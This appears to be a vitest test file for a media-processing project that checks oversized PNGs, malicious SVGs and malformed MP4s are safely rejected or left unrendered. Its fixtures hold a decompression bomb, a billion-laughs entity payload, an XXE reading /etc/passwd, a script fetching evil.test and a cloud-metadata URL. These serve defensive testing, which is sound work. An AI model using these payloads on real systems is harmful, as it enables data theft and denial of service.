import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { crc32, deflateSync } from 'node:zlib';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { checkWhole } from '../../src/activities/outputs/whole-file.ts';
import { sniffMedia } from '../../src/http/sniff.ts';
import { makeThumbnails } from '../../src/report/thumbnails.ts';
import { folderBlobs } from '../../src/storage/folder-blobs.ts';

let folder: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'shotlist-pictures-'));
});
afterEach(() => rmSync(folder, { recursive: true }));

/** A PNG that says it has so many pixels a side, and holds a few. */
function pngOf(side: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.set([1, 0, 0, 0, 0], 8);
  const chunk = (type: string, data: Buffer): Buffer => {
    const body = Buffer.concat([Buffer.from(type), data]);
    const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(data.length);
    check.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, check]);
  };
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.alloc(2_000_000))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

const laughs = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "${'&a;'.repeat(50)}">]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>`;
const outside = `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>fetch('//evil.test')</script>
<image href="http://169.254.169.254/"/><text>&x;</text></svg>`;

describe('a picture', () => {
  it('of 50,000 by 50,000 pixels is never unpacked', async () => {
    const bytes = pngOf(50_000);
    const path = join(folder, 'bomb.png');
    writeFileSync(path, bytes);
    const media = sniffMedia(bytes);
    expect(media?.mime).toBe('image/png');
    const before = process.memoryUsage.rss();
    await expect(checkWhole(path, media!)).rejects.toThrow('cannot be read');
    const blobs = folderBlobs(join(folder, 'blobs'));
    const sha256 = await blobs.put(bytes);
    expect(await makeThumbnails(folder, [{ sha256, mime: 'image/png' }], blobs)).toEqual(new Set());
    expect(process.memoryUsage.rss() - before).toBeLessThan(300 * 1024 * 1024);
  });

  it.each([
    ['entities that stand for entities', laughs],
    ['entities of files, and scripts', outside],
  ])('that is a drawing with %s is kept as it is and never rendered', async (_, text) => {
    const bytes = Buffer.from(text);
    const path = join(folder, 'drawing.svg');
    writeFileSync(path, bytes);
    const media = sniffMedia(bytes);
    expect(media?.kind).toBe('vector');
    expect(await checkWhole(path, media!)).toEqual({ width: null, height: null });
    const blobs = folderBlobs(join(folder, 'blobs'));
    const sha256 = await blobs.put(bytes);
    for (const mime of ['image/svg+xml', 'image/png'])
      expect(await makeThumbnails(folder, [{ sha256, mime }], blobs)).toEqual(new Set());
  });

  it('of a box that is longer than its film is broken, and none is walked through for ever', async () => {
    const path = join(folder, 'film.mp4');
    const film = Buffer.from('\0\0\0\x10ftypisom\0\0\0\0\0\x01\0\0moov', 'latin1');
    writeFileSync(path, film);
    await expect(checkWhole(path, sniffMedia(film)!)).rejects.toThrow('within a box');
  });
});
